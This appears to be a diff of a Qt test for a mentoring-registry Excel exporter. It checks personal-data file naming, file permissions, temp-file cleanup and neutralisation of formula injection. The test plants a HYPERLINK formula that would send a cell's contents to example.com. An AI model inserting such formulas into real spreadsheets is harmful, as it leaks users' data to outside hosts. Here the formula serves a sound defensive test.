@@ -2,6 +2,8 @@
 #include "domain/AcademicYear.h"
 #include "support/TestSupport.h"
 
+#include <QDir>
+#include <QFileInfo>
 #include <QJsonArray>
 #include <QJsonDocument>
 #include <QJsonObject>
@@ -233,12 +235,32 @@ TEST_CASE("the registries, KPI and roadmap reports are real Excel workbooks")
     CHECK(roadmapBook.at(1).toObject().value(QLatin1String("name")).toString() == QStringLiteral("По разделам"));
     CHECK(roadmapBook.at(2).toObject().value(QLatin1String("name")).toString() == QStringLiteral("По ответственным"));
 
-    // The banks in the column sets of domain.md.
-    const QString menteesFile = dir.filePath(QStringLiteral("наставляемые.xlsx"));
-    REQUIRE(cli({QStringLiteral("--db"), db, QStringLiteral("export"), QStringLiteral("mentees"), QStringLiteral("--year"),
-                 year, QStringLiteral("--out"), menteesFile})
-                .exitCode == 0);
+    // The banks in the column sets of domain.md; a request written as a formula stays text.
+    const QString formula = QStringLiteral("=HYPERLINK(\"http://example.com/?q=\"&B4,\"Подробнее\")");
+    {
+        auto opened = Database::open(db);
+        REQUIRE(opened.ok());
+        QSqlQuery q(opened.value()->connection());
+        q.prepare(QStringLiteral("UPDATE mentee_profile SET request = ? WHERE id = (SELECT min(id) FROM mentee_profile)"));
+        q.addBindValue(formula);
+        REQUIRE(q.exec());
+    }
+    const QString menteesFile = dir.filePath(QStringLiteral("наставляемые (ПДн).xlsx"));
+    const Run mentees = cli({QStringLiteral("--db"), db, QStringLiteral("export"), QStringLiteral("mentees"), QStringLiteral("--year"),
+                             year, QStringLiteral("--out"), dir.filePath(QStringLiteral("наставляемые.xlsx"))});
+    REQUIRE(mentees.exitCode == 0);
+    CHECK(mentees.out.contains(menteesFile)); // the name says the file holds personal data
+    CHECK(mentees.err.contains(QStringLiteral("персональные данные")));
+    CHECK((QFileInfo(menteesFile).permissions() & (QFile::ReadGroup | QFile::ReadOther)) == 0);
+    CHECK(QDir(dir.path()).entryList(QDir::Hidden | QDir::Files).filter(QStringLiteral(".part")).isEmpty());
     const QJsonObject bank = readBack(menteesFile).at(0).toObject();
+    int neutralised = 0;
+    for (const QJsonValue &row : bank.value(QLatin1String("rows")).toArray())
+        for (const QJsonValue &cell : row.toArray()) {
+            CHECK(cell.toObject().value(QLatin1String("v")).toString() != formula);
+            neutralised += cell.toObject().value(QLatin1String("v")).toString() == QLatin1Char('\'') + formula ? 1 : 0;
+        }
+    CHECK(neutralised == 1);
     CHECK(bank.value(QLatin1String("name")).toString() == QStringLiteral("База наставляемых"));
     QStringList header;
     for (const QJsonValue &c : bank.value(QLatin1String("rows")).toArray().at(2).toArray())
@@ -260,7 +282,7 @@ TEST_CASE("the registries, KPI and roadmap reports are real Excel workbooks")
     for (int r = 4; r <= bankRows + 3; ++r)
         throughRepresentative += cellAt(bank, r, 3).value(QLatin1String("v")).toString().startsWith(QStringLiteral("представитель")) ? 1 : 0;
     CHECK(throughRepresentative > 0);
-    const QString mentorsFile = dir.filePath(QStringLiteral("наставники.xlsx"));
+    const QString mentorsFile = dir.filePath(QStringLiteral("наставники-персональные-данные.xlsx")); // kept as named
     REQUIRE(cli({QStringLiteral("--db"), db, QStringLiteral("export"), QStringLiteral("mentors"), QStringLiteral("--year"),
                  year, QStringLiteral("--out"), mentorsFile})
                 .exitCode == 0);
